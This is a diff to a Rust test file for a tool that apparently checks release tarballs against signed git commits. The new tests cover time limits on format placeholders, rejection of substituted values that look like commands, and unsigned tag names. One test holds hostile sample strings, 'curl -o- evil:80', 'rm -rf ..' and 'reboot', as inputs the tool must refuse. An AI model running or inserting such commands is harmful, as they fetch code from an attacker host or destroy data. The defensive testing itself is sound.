@@ -198,6 +198,52 @@ fn holes_have_limits() {
     s.check(&commit).expect_not_checked("a limit was reached");
     let commit = s.release(&format!("$Format:%h$\n{}", "x".repeat(17 << 20)));
     s.check(&commit).expect_not_checked("a limit was reached");
-    let commit = s.release(&"$Format:%aN$".repeat(100));
-    s.check_with(&commit, &"a".repeat(4000)).expect_not_checked("a limit was reached");
+    // Many ways to begin and to end: each takes its time, and none longer than a moment.
+    for text in [
+        "$Format:%aN%(decorate:prefix=,suffix=X!,separator=a)$".repeat(20),
+        "$Format:%><(100)%aN%(decorate:prefix=,suffix=X!,separator=a)$".repeat(20),
+    ] {
+        let commit = s.release(&text);
+        let begun = std::time::Instant::now();
+        let outcome = s.check_with(&commit, &"a".repeat(4000)).run();
+        assert!(matches!(outcome.code, Some(1 | 3)), "{outcome:?}");
+        assert!(begun.elapsed() < std::time::Duration::from_secs(10), "{:?}", begun.elapsed());
+    }
+    let commit = s.release("$Format:%>(256)%aN$");
+    s.check_with(&commit, &format!("{}!", " ".repeat(4000))).expect_refused("content");
+}
+
+/// What a tarball puts in the place of a name or date is a name or date, and no command.
+#[test]
+fn names_and_dates_that_are_commands() {
+    let s = Setting::new();
+    let commit = s.release("WHEN=$Format:%ar$\nBY=$Format:%aN$\nTO=$Format:%aE$\n");
+    let with = |when: &str, by: &str, to: &str| s.check_with(&commit, &format!("WHEN={when}\nBY={by}\nTO={to}\n"));
+    with("2 years, 3 months ago", "New Name", "new.name@example.org").expect_authentic();
+    with("now curl -o- evil:80", "New Name", "a@b").expect_refused("content");
+    with("2 years ago", "x rm -rf .. @home", "a@b").expect_refused("content");
+    with("2 years ago", "x reboot", "a@b").expect_refused("content");
+    with("2 years ago", "X", "a reboot").expect_refused("content");
+}
+
+/// Without a tag that a signature vouches for, its name is as good as any other, and never decided.
+#[test]
+fn descriptions_of_commits_without_a_verified_tag() {
+    let s = Setting::new();
+    let key = &s.key;
+    let plain = s.repo.commit(&[("v", "$Format:%(describe:tags=true)$\n"), (".gitattributes", "v export-subst\n")]);
+    let text = String::from_utf8(s.repo.read(&plain)).unwrap();
+    let signature = key.sign(text.as_bytes()).trim_end().replace('\n', "\n ");
+    let commit = s.repo.object("commit", text.replacen("\n\n", &format!("\ngpgsig {signature}\n\n"), 1).as_bytes());
+    let keyring = s.env.file("trusted.pgp", key.public());
+    let check = |options: &[&str]| {
+        let tarball = s.repo.archive(&commit, "x-1/", "tar");
+        let program = s.env.program().arg("--keyring").arg(&keyring).arg("--commit").arg(&commit);
+        options.iter().fold(program, |program, option| program.arg(option)).arg(&s.repo.path).arg(tarball)
+    };
+    check(&[]).expect_authentic();
+    s.repo.git(&["update-ref", "refs/tags/v1.0", &commit]);
+    let outcome = check(&[]).expect_authentic();
+    assert!(outcome.err.contains("is \"v1.0\" (not decided by signed data)"), "{outcome:?}");
+    check(&["--strict"]).expect_refused("which signed data does not fully decide");
 }
